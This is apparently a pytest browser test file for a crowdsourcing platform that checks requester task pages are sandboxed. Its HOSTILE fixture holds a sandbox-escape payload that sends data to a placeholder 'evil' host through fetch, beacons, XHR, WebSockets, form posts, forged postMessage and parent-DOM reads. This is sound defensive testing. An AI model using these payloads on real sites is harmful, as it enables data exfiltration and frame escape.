"""Pages of requesters in a browser: shown, filled, handed in through the real submit, and reaching nothing."""

from __future__ import annotations

import pytest

from lifecycle.digest import digest_due
from mturk import answers
from tests.mturk.frames_site import (
    html_question,
    opened,
    post,
)

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.browser]

PLAIN = """<!DOCTYPE html><html><head><script src="https://s3.amazonaws.com/mturk-public/externalHIT_v1.js"></script></head>
<body><form name="mturk_form" id="mturk_form" method="post" action="https://www.mturk.com/mturk/externalSubmit">
<input type="hidden" value="" name="assignmentId" id="assignmentId">
<label>City <input name="city"></label>
<label><input type="radio" name="size" value="small">small</label>
<label><input type="radio" name="size" value="large">large</label>
<input type="submit" id="submitButton" value="Send"></form>
<script>turkSetAssignmentID();</script></body></html>"""


def test_a_page_with_a_form_of_amazon_is_filled_by_keyboard_and_handed_in(page, frame_site, requester, make_worker):
    row = post(requester, html_question(PLAIN))
    stage = opened(page, frame_site, make_worker(), row)

    stage.frame.get_by_label("City").press_sequentially("Łódź")
    page.keyboard.press("Tab")
    page.keyboard.press("Space")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")

    assignment = stage.handed_in()
    assert assignment.state == "submitted"
    said = assignment.answers.get().data["answers"]
    assert answers.fields_of({"answers": said}) == [("city", "Łódź"), ("size", "large")]
    assert said["size"] == "large"
    digest_due()
    assert stage.errors == []


EVERYTHING = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<crowd-form>
<crowd-classifier name="mood" categories="['Glad', 'Sad']" header="Mood?"><classification-target>Hm.</classification-target>
<full-instructions header="All of it"><p>Long.</p></full-instructions><short-instructions>Short.</short-instructions></crowd-classifier>
<crowd-classifier-multi-select name="tags" categories="['one', 'two']" header="Tags?" exclusion-category="{ text: 'None' }"></crowd-classifier-multi-select>
<crowd-input name="word" label="A word" required min-length="2"></crowd-input>
<crowd-text-area name="essay" label="More" rows="2" char-counter></crowd-text-area>
<crowd-checkbox name="flags" value="dim">Dim</crowd-checkbox><crowd-checkbox name="flags" value="blurry">Blurry</crowd-checkbox>
<crowd-toggle-button name="on" value="yes">On</crowd-toggle-button>
<crowd-radio-group><crowd-radio-button name="cat" value="Cat">Cat</crowd-radio-button><crowd-radio-button name="dog" value="Dog">Dog</crowd-radio-button></crowd-radio-group>
<crowd-slider name="much" min="1" max="5" required pin></crowd-slider>
<select name="pick" aria-label="Pick"><option value="">-</option><option>red</option><option>blue</option></select>
<label><input type="radio" name="plain" value="p"> p</label><label><input type="radio" name="plain" value="q"> q</label>
<crowd-instructions link-text="How" link-type="button"><short-summary>Sum.</short-summary><positive-example>Good.</positive-example></crowd-instructions>
<crowd-tabs><crowd-tab header="First">1</crowd-tab><crowd-tab header="Second">2</crowd-tab></crowd-tabs>
<crowd-modal link-text="See">Inside.</crowd-modal><crowd-alert type="warning" dismissible>Mind.</crowd-alert><crowd-card heading="Card">Body.</crowd-card>
<crowd-icon-button icon="star" title="Star"></crowd-icon-button><crowd-fab label="?" title="Ask"></crowd-fab><crowd-toast text="Hello" duration="0"></crowd-toast>
<p id="b">here</p><crowd-badge label="3" for="b"></crowd-badge>
</crowd-form>"""  # noqa: E501


def keys(page, *pressed):
    for key in pressed:
        page.keyboard.press(key)


PICTURE = (
    "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='400' height='200'%3E"
    "%3Crect width='400' height='200' fill='teal'/%3E%3C/svg%3E"
).replace("'", "&#39;")
BEGIN = {
    "crowd-bounding-box": "[{label: &#39;Dog&#39;, left: 10, top: 20, width: 30, height: 40}]",
    "crowd-line": "{lines: [{label: &#39;Dog&#39;, vertices: [{x: 1, y: 2}, {x: 3, y: 4}]}]}",
}


HOSTILE = """<html><head><base href="{evil}/base/"><link rel="stylesheet" href="{evil}/style"><link rel="prefetch" href="{evil}/prefetch">
<link rel="dns-prefetch" href="{evil}"><meta name="referrer" content="unsafe-url"><style>@import "{evil}/import"; body {{ background: url({evil}/css) }}</style></head>
<body><img src="{evil}/img"><img srcset="{evil}/srcset 2x"><audio src="{evil}/audio" autoplay></audio><video poster="{evil}/poster"></video><iframe src="{evil}/iframe"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><svg><image href="{evil}/svg"/><script>fetch("{evil}/svgscript")</script></svg><script src="{evil}/script"></script>
<form id="out" action="{evil}/form" method="post"><input name="secret" value="1"></form><a id="top" target="_top" href="{evil}/anchor">go</a>
<script>
window.reached = [];
const tries = {{
  fetch: () => fetch("{evil}/fetch"), beacon: () => {{ if (!navigator.sendBeacon("{evil}/beacon", "x")) throw 1; }},
  xhr: () => {{ const x = new XMLHttpRequest(); x.open("GET", "{evil}/xhr"); x.send(); }}, ws: () => new WebSocket("{evil}/ws".replace("http", "ws")),
  image: () => {{ new Image().src = "{evil}/newimage"; }}, events: () => new EventSource("{evil}/events"), worker: () => new Worker("{evil}/worker"),
  opened: () => {{ if (window.open("{evil}/open")) reached.push("open"); }}, cookie: () => {{ document.cookie = "a=1"; reached.push("cookie:" + document.cookie); }},
  top: () => {{ window.top.location = "{evil}/top"; }}, parentDom: () => {{ reached.push(parent.document.title); }}, parentStore: () => {{ reached.push(String(parent.localStorage)); }},
  indexed: () => {{ indexedDB.open("x"); reached.push("indexed"); }}, form: () => document.getElementById("out").submit(), anchor: () => document.getElementById("top").click(),
  import: () => import("{evil}/module.js"), flood: () => {{ for (let n = 0; n < 300; n += 1) parent.postMessage({{frame: "x" + n, kind: "done", href: "{evil}"}}, "*"); }},
  forged: () => {{ const nonce = JSON.parse(document.getElementById("frame-about").textContent).nonce; parent.postMessage({{frame: nonce, kind: "done"}}, "*"); parent.postMessage({{frame: nonce, kind: "height", height: 1e9}}, "*"); }},
}};
for (const [name, act] of Object.entries(tries)) try {{ const made = act(); made?.catch?.(() => {{}}); }} catch (error) {{ }}
document.title = "tried";
setTimeout(() => {{ try {{ location = "{evil}/self"; }} catch (error) {{ }} }}, 300);
</script></body></html>"""  # noqa: E501


OUTSIDE = """<!DOCTYPE html><title>Theirs</title><form method="post"><label>Say <input name="said"></label><button>Send</button></form>
<script>
const query = new URLSearchParams(location.search);
window.seen = Object.fromEntries(query);
const form = document.forms[0];
form.action = query.get("turkSubmitTo") + "/mturk/externalSubmit";
for (const name of ["assignmentId"]) { const one = document.createElement("input"); one.type = "hidden"; one.name = name; one.value = query.get(name); form.append(one); }
try { parent.parent.document.title; window.reached = true; } catch { window.reached = false; }
document.title = document.cookie;
</script>"""  # noqa: E501


FORM = """<Overview><Title>Read</Title><FormattedContent><![CDATA[<p>Look at <b>this</b>&nbsp;<a href="https://a.example/">page</a>.</p>]]></FormattedContent>
<List><ListItem>one</ListItem></List></Overview>
<Question><QuestionIdentifier>year</QuestionIdentifier><IsRequired>true</IsRequired><QuestionContent><Text>Which year?</Text></QuestionContent>
<AnswerSpecification><FreeTextAnswer><Constraints><IsNumeric minValue="1900" maxValue="2000"/><Length minLength="4" maxLength="4"/>
<AnswerFormatRegex regex="^19\\d\\d$" errorText="A year of the century, please."/></Constraints></FreeTextAnswer></AnswerSpecification></Question>
<Question><QuestionIdentifier>hand</QuestionIdentifier><IsRequired>true</IsRequired><QuestionContent><Text>Whose hand?</Text></QuestionContent>
<AnswerSpecification><SelectionAnswer><StyleSuggestion>radiobutton</StyleSuggestion><Selections><Selection><SelectionIdentifier>left</SelectionIdentifier><Text>Left</Text></Selection>
<Selection><SelectionIdentifier>right</SelectionIdentifier><FormattedContent><![CDATA[<i>Right</i>]]></FormattedContent></Selection></Selections></SelectionAnswer></AnswerSpecification></Question>
<Question><QuestionIdentifier>seen</QuestionIdentifier><QuestionContent><Text>What is there?</Text></QuestionContent>
<AnswerSpecification><SelectionAnswer><MinSelectionCount>1</MinSelectionCount><MaxSelectionCount>2</MaxSelectionCount><StyleSuggestion>checkbox</StyleSuggestion><Selections>
<Selection><SelectionIdentifier>ink</SelectionIdentifier><Text>Ink</Text></Selection><Selection><SelectionIdentifier>seal</SelectionIdentifier><Text>Seal</Text></Selection>
<OtherSelection><NumberOfLinesSuggestion>1</NumberOfLinesSuggestion></OtherSelection></Selections></SelectionAnswer></AnswerSpecification></Question>
<Question><QuestionIdentifier>scan</QuestionIdentifier><QuestionContent><Text>Your scan</Text></QuestionContent>
<AnswerSpecification><FileUploadAnswer><MaxFileSizeInBytes>1000</MaxFileSizeInBytes><MinFileSizeInBytes>2</MinFileSizeInBytes></FileUploadAnswer></AnswerSpecification></Question>"""  # noqa: E501
